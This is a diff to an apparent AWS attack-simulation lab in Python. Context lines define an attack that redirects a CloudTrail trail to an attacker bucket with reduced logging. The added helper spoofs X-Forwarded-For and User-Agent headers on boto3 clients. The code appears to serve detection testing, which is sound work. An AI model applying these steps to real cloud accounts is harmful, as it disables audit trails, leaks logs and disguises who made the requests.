@@ -53,3 +53,16 @@ MINIMIZE_AND_REDIRECT = Attack(
     operation="UpdateTrail",
     parameters={"Name": TRAIL_NAME, "S3BucketName": ATTACKER_BUCKET, **MINIMIZE},
 )
+
+
+def calling_from(client: Any, address: str, *, user_agent: str = "") -> Any:
+    """Let a client of the lab say where it is, and what it is: all of them are on loopback, and boto3."""
+
+    def say(request: Any, **_context: Any) -> None:
+        # Neither is signed, so both may be set at the last moment.
+        request.headers["X-Forwarded-For"] = address
+        if user_agent:
+            request.headers["User-Agent"] = user_agent
+
+    client.meta.events.register(f"before-send.{client.meta.service_model.service_id.hyphenize()}", say)
+    return client
